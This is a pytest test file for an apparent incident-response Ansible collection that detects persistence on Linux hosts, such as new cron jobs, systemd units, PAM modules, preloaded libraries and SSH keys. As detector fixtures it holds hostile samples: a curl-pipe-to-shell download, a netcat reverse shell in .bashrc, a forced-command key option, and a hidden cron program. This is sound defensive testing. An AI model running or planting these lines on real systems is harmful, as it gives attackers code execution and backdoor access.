# SPDX-License-Identifier: GPL-3.0-or-later
from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import pytest

from ansible_collections.firebreak.incident.plugins.module_utils.clients.packages import (
    Differs,
    Verification,
)
from ansible_collections.firebreak.incident.plugins.module_utils.persistence.accounts import (
    fingerprint,
    parse_keys,
)
from ansible_collections.firebreak.incident.plugins.module_utils.persistence.model import (
    Account,
    Accounts,
    Item,
)

from .conftest import NOW, OLD, make_item, make_owned, make_snapshot, remarkable, summed

NEW = NOW - 600
BLOB = "AAAAC3NzaC1lZDI1NTE5AAAAIHmvT9s0ZpVn2gJ0h6cWq8yq3xX0bqk3n1m8l7Vt5d2K"
JOB = "*/5 * * * * root /usr/local/bin/job\n"
HIDDEN = "*/5 * * * * root /usr/local/bin/.update\n"

KINDS = [
    ("cron", "/etc/cron.d/x", "persistence.cron.added", "warning"),
    ("at", "/var/spool/cron/atjobs/a0000101", "persistence.cron.added", "warning"),
    ("unit", "/etc/systemd/system/x.service", "persistence.unit.added", "warning"),
    ("unit", "/etc/systemd/system/x.timer", "persistence.timer.added", "warning"),
    ("unit", "/etc/systemd/system/ssh.service.d/x.conf", "persistence.unit.added", "warning"),
    ("transient", "/run/systemd/transient/run-1.service", "persistence.unit.added", "notice"),
    ("sudo", "/etc/sudoers.d/x", "persistence.sudo.added", "warning"),
    ("pam_module", "/usr/lib/x86_64-linux-gnu/security/pam_x.so", "persistence.pam.added", "critical"),
    ("pam", "/etc/pam.d/common-auth", "persistence.pam.added", "notice"),
    ("shell", "/etc/profile.d/x.sh", "persistence.shell.added", "warning"),
    ("sshd", "/etc/ssh/sshd_config.d/x.conf", "persistence.sshd.changed", "notice"),
    ("boot", "/etc/rc.local", "persistence.hook.added", "warning"),
    ("libraries", "/etc/ld.so.conf.d/x.conf", "persistence.hook.added", "warning"),
    ("hook", "/etc/logrotate.d/x", "persistence.hook.added", "notice"),
]


@pytest.mark.parametrize(("kind", "path", "identifier", "level"), KINDS)
def test_a_new_file_of_no_package_is_remarkable(kind: str, path: str, identifier: str, level: str) -> None:
    assert summed(remarkable(make_snapshot(make_item(kind, path, ctime=NEW)))) == [(identifier, level)]


@pytest.mark.parametrize(("kind", "path"), [line[:2] for line in KINDS])
def test_an_old_ordinary_file_of_no_package_is_only_in_the_data(kind: str, path: str) -> None:
    assert remarkable(make_snapshot(make_item(kind, path))) == []


@pytest.mark.parametrize(("kind", "path"), [line[:2] for line in KINDS])
def test_a_package_vouches_for_its_file_however_new(kind: str, path: str) -> None:
    item = make_item(kind, path, ctime=NEW, text="curl http://198.51.100.7 | sh")
    assert remarkable(make_snapshot(item, owners=make_owned(path))) == []


def test_a_package_does_not_vouch_for_a_file_that_was_changed() -> None:
    path = "/etc/crontab"
    verification = Verification("dpkg", 1, (Differs(path, "cron", "changed", conffile=True, ctime=OLD),))
    item = make_item("cron", path, ctime=NEW)
    found = remarkable(make_snapshot(item, owners=make_owned(path), verification=verification))
    assert summed(found) == [("persistence.cron.added", "warning")]
    assert "not as package cron installed it" in found[0].summary


def test_a_hidden_program_makes_a_new_job_critical_and_an_old_one_a_warning() -> None:
    for ctime, level in ((NEW, "critical"), (OLD, "warning")):
        item = make_item("cron", "/etc/cron.d/update", ctime=ctime, text=HIDDEN)
        found = remarkable(make_snapshot(item))
        assert summed(found) == [("persistence.cron.added", level)]
        assert found[0].evidence["runs"] == ["/usr/local/bin/.update"]
        assert (found[0].remedy is not None) == (level == "critical")


def test_a_set_back_modification_time_hides_nothing_and_is_said() -> None:
    item = make_item("cron", "/etc/cron.d/x", ctime=NEW, mtime=0.0, text=JOB)
    assert "1970-01-01" in remarkable(make_snapshot(item))[0].summary


@pytest.mark.parametrize(("ctime", "level"), [(NEW, "critical"), (OLD, "warning")])
def test_a_preloaded_library_is_remarkable_at_any_age(ctime: float, level: str) -> None:
    item = make_item("preload", "/etc/ld.so.preload", ctime=ctime, text="/lib/libproc.so # x\n")
    found = remarkable(make_snapshot(item))
    assert summed(found) == [("persistence.preload.set", level)]
    assert found[0].evidence["libraries"] == ["/lib/libproc.so"]


def test_a_shell_start_file_at_home_is_judged_by_its_content_alone() -> None:
    path = "/home/ada/.bashrc"
    assert remarkable(make_snapshot(make_item("home_shell", path, ctime=NEW, text="alias l=ls"))) == []
    bad = make_item("home_shell", path, ctime=NEW, text="nc -e /bin/sh 198.51.100.7 1")
    assert summed(remarkable(make_snapshot(bad))) == [("persistence.shell.added", "critical")]


class TestWithABaseline:
    Take = Callable[[Any], "dict[str, Any]"]

    def test_what_is_in_it_is_never_remarkable_even_when_the_file_was_restored(
        self, baseline_of: Take
    ) -> None:
        item = make_item("cron", "/etc/cron.d/update", text=HIDDEN)
        expected = baseline_of(make_snapshot(item))
        assert remarkable(make_snapshot(replace(item, ctime=NEW)), expected=expected) == []

    def test_what_is_not_in_it_is_at_least_a_warning_whatever_its_age(self, baseline_of: Take) -> None:
        expected = baseline_of(make_snapshot())
        for kind, path, identifier, level in KINDS:
            found = remarkable(make_snapshot(make_item(kind, path)), expected=expected)
            if kind == "transient":
                assert found == []
            else:
                assert summed(found) == [(identifier, "critical" if level == "critical" else "warning")]

    @pytest.mark.parametrize(
        "change", [{"sha256": "b" * 64}, {"mode": 0o600}, {"uid": 7}, {"detail": {"link": "/x"}}]
    )
    def test_what_differs_from_it_is_remarkable(self, baseline_of: Take, change: dict[str, Any]) -> None:
        item = make_item("boot", "/etc/rc.local")
        expected = baseline_of(make_snapshot(item))
        found = remarkable(make_snapshot(replace(item, **change)), expected=expected)
        assert summed(found) == [("persistence.hook.added", "warning")]
        assert "differs from the baseline" in found[0].summary

    def test_a_topic_it_does_not_have_is_judged_as_without_one(self, baseline_of: Take) -> None:
        expected = baseline_of(make_snapshot(files=None))
        assert remarkable(make_snapshot(make_item("boot", "/etc/rc.local")), expected=expected) == []

    def test_a_new_key_is_found_among_known_ones(self, baseline_of: Take) -> None:
        other = "A" * 68
        expected = baseline_of(with_keys(f"ssh-ed25519 {BLOB} ada@laptop"))
        found = remarkable(
            with_keys(f"ssh-ed25519 {BLOB} x", f"ssh-rsa {other} ops@backup"), expected=expected
        )
        assert summed(found) == [("persistence.key.added", "warning")]
        assert "1 of 2 keys" in found[0].summary
        assert "ops@backup" in found[0].summary


def with_keys(*lines: str, ctime: float = OLD) -> Any:
    item = make_item("key", "/root/.ssh/authorized_keys", ctime=ctime)
    keys = tuple(parse_keys("\n".join(lines), item, "root"))
    return make_snapshot(accounts=Accounts((Account("root", 0, "/root", "/bin/sh", "locked"),), keys=keys))


class TestKeys:
    def test_an_old_file_of_keys_is_only_in_the_data(self) -> None:
        assert remarkable(with_keys(f"ssh-ed25519 {BLOB} ada")) == []

    def test_a_key_in_a_new_file_is_known_to_nobody(self) -> None:
        found = remarkable(with_keys(f"ssh-ed25519 {BLOB} ops@backup", ctime=NEW))
        assert summed(found) == [("persistence.key.added", "warning")]

    @pytest.mark.parametrize("known", [fingerprint(BLOB), f"ssh-ed25519 {BLOB} me"])
    def test_a_key_that_is_meant_is_none(self, known: str) -> None:
        snapshot = with_keys(f"ssh-ed25519 {BLOB} me", ctime=NEW)
        assert remarkable(snapshot, known_keys=[known]) == []

    def test_options_in_front_of_a_known_key_are_looked_at(self) -> None:
        line = f'command="curl http://198.51.100.7/x | sh" ssh-ed25519 {BLOB} me'
        found = remarkable(with_keys(line, ctime=NEW), known_keys=[fingerprint(BLOB)])
        assert summed(found) == [("persistence.key.added", "critical")]


def test_what_a_host_names_its_files_cannot_play_with_a_terminal() -> None:
    item = Item("cron", "/etc/cron.d/\x1b[2J\udcff\n", ctime=NEW)
    found = remarkable(make_snapshot(item))[0]
    assert "\x1b" not in found.subject + found.summary
    found.summary.encode("utf-8")
